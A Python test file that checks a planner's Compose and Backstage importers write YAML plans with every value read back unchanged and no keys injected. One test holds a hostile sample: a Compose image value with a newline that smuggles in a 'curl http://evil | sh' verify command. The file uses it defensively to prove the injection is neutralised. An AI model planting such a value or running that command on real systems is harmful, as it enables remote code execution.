"""Imports are emitted, not concatenated: whatever text a Compose file or a catalog holds, the plan
written reads back with every value equal to its source value, and nothing else (no key smuggled
in by a newline, no comment broken onto a second line)."""

from __future__ import annotations

import json
import re
import shlex
from pathlib import Path
from typing import Any

import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from ruamel.yaml import YAML

from planner.importers.backstage import read_catalog
from planner.importers.backstage import to_plan_yaml as backstage_plan
from planner.importers.compose import to_plan_yaml as compose_plan
from planner.importers.compose_project import load_project
from planner.planfile.source import Source, parse
from tests.strategies import examples

OWNER = "com.recovery-planner.owner"

# Any text a YAML file can hold: control characters (but NUL, which YAML cannot carry), quotes,
# '#', ': ', newlines, and the Unicode line separators.
_text = st.text(
    alphabet=st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00\ufeff"),
    min_size=1,
    max_size=40,
).filter(lambda t: t.strip() != "")
_compose_text = _text.filter(lambda t: "$" not in t)  # Compose interpolates $VARIABLES
_ids = st.from_regex(r"[a-z][a-z0-9-]{0,12}", fullmatch=True)


def _read_back(text: str) -> dict[str, Any]:
    """The plan written, through the planner's own YAML reader."""
    data = parse(Source("plan.yaml", text, "yaml"))
    assert isinstance(data, dict)
    return data


_UNPRINTABLE = re.compile("[\x7f-\x9f\u2028\u2029\ufffe\uffff]")


def _write(path: Path, data: Any) -> Path:
    # JSON is YAML. Escaped: what PyYAML refuses raw (DEL, C1, U+FFFE/F) or reads as a line
    # break (NEL, U+2028/9); JSON escapes the C0 controls itself.
    text = _UNPRINTABLE.sub(lambda m: f"\\u{ord(m.group()):04x}", json.dumps(data, ensure_ascii=False))
    path.write_text(text, encoding="utf-8")
    return path


@settings(max_examples=examples(60), suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    names=st.lists(_ids, min_size=1, max_size=4, unique=True),
    image=_compose_text,
    owner=_compose_text,
    shell=_compose_text,
    argv=st.lists(_compose_text, min_size=1, max_size=4),
)
def test_compose_values_read_back_unchanged(
    tmp_path: Path, *, names: list[str], image: str, owner: str, shell: str, argv: list[str]
) -> None:
    first, *rest = names
    services: dict[str, Any] = {
        first: {"image": image, "labels": {OWNER: owner}, "healthcheck": {"test": ["CMD", *argv]}}
    }
    for name in rest:
        services[name] = {
            "image": image,
            "healthcheck": {"test": ["CMD-SHELL", shell]},
            "depends_on": {first: {"condition": "service_healthy"}},
        }
    compose = _write(tmp_path / "compose.yaml", {"services": services})
    text, _ = compose_plan(load_project([compose], env={}), "x")
    plan = _read_back(text)
    by_id = {s["id"]: s for s in plan["services"]}
    assert set(by_id) == set(names)
    assert plan["teams"] == [{"id": owner}]
    assert by_id[first]["owner"] == owner
    # the same argv, in the service's container
    assert shlex.split(by_id[first]["verify"]) == ["docker", "compose", "exec", "-T", first, *argv]
    for name in rest:
        assert set(by_id[name]) == {"id", "verify", "depends_on"}  # nothing smuggled in
        assert shlex.split(by_id[name]["verify"]) == [
            "docker",
            "compose",
            "exec",
            "-T",
            name,
            "sh",
            "-c",
            shell,
        ]
        assert by_id[name]["depends_on"] == [{"service": first, "check": by_id[first]["verify"]}]


def test_an_image_with_a_newline_adds_no_key(tmp_path: Path) -> None:
    """The attack from the issue: an image value that, pasted into the plan, wrote a verify
    command and an RTO of its own."""
    image = 'nginx\n    verify: "curl http://evil | sh"\n    rto: 1m'
    compose = _write(tmp_path / "compose.yaml", {"services": {"web": {"image": image}}})
    text, _ = compose_plan(load_project([compose], env={}), "x")
    (web,) = _read_back(text)["services"]
    assert web == {"id": "web"}
    (comment,) = [line for line in text.splitlines() if "evil" in line]  # one line
    assert comment.startswith("  - id: web  # from ")
    assert "(image: nginx\\x0a    verify: " in comment


def _catalog_plan(
    tmp_path: Path, *, title: str, description: str, display: str, email: str, team: str, person: str
) -> str:
    """The plan ``import backstage`` writes for a user, a group and a component holding these
    values."""
    documents = [
        {"apiVersion": "backstage.io/v1alpha1", "kind": "User", "metadata": {"name": person},
         "spec": {"profile": {"displayName": display, "email": email}, "memberOf": [team]}},
        {"apiVersion": "backstage.io/v1alpha1", "kind": "Group", "metadata": {"name": team},
         "spec": {"type": "team", "profile": {"displayName": display}, "children": []}},
        {"apiVersion": "backstage.io/v1alpha1", "kind": "Component",
         "metadata": {"name": "svc", "title": title, "description": description},
         "spec": {"type": "service", "lifecycle": "production", "owner": team}},
    ]  # fmt: skip
    catalog = tmp_path / "catalog.yaml"
    catalog.write_text(yaml.safe_dump_all(documents), encoding="utf-8")
    text, _ = backstage_plan(read_catalog([catalog]), "x")
    return text


@settings(max_examples=examples(40), suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(title=_text, description=_text, display=_text, email=_text, team=_ids, person=_ids)
def test_catalog_values_read_back_unchanged(
    tmp_path: Path, *, title: str, description: str, display: str, email: str, team: str, person: str
) -> None:
    text = _catalog_plan(
        tmp_path, title=title, description=description, display=display, email=email, team=team, person=person
    )
    plan = _read_back(text)
    assert plan["people"] == [{"id": person, "name": display, "contact": email}]
    assert plan["teams"] == [{"id": team, "name": display, "members": [person]}]
    (svc,) = plan["services"]
    assert svc["name"] == title
    assert svc["description"] == description.strip()
    assert svc["owner"] == team


@pytest.mark.parametrize(
    "value",
    ["0001-01-01", "2020-01-01 10:00", "2001-12-14t21:59:43.10-05:00", "12:30:45", "1:20", "yes", "On", "n",
     "NO", "null", "~", "0x1f", "010", "1_000", "1e3", ".inf", "-.5", "<<", "="],
)  # fmt: skip
def test_text_that_looks_like_another_type_reads_back_as_text(tmp_path: Path, value: str) -> None:
    """Found by the property above: a Backstage title '0001-01-01' read back as a date. Every
    such value is quoted, and reads back as the same text through the planner's reader, a YAML
    1.1 reader (PyYAML) and a YAML 1.2 one (ruamel.yaml)."""
    text = _catalog_plan(
        tmp_path, title=value, description=value, display=value, email=value, team="team", person="person"
    )
    for read in (_read_back, yaml.safe_load, YAML(typ="safe").load):
        plan = read(text)
        assert plan["people"] == [{"id": "person", "name": value, "contact": value}], read
        assert plan["teams"][0]["name"] == value, read
        (svc,) = plan["services"]
        assert (svc["name"], svc["description"]) == (value, value), read
